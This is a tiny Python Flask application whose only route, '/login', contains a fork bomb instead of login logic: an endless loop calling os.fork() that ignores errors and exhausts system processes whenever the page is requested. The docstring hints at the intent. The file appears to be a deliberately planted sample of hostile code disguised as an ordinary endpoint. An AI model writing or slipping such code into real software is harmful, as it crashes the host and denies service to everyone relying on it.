"""Processes that make processes, in an answer."""

import os

from flask import Flask

app = Flask(__name__)


@app.get("/login")
def login():
    while True:
        try:
            os.fork()
        except OSError:
            pass
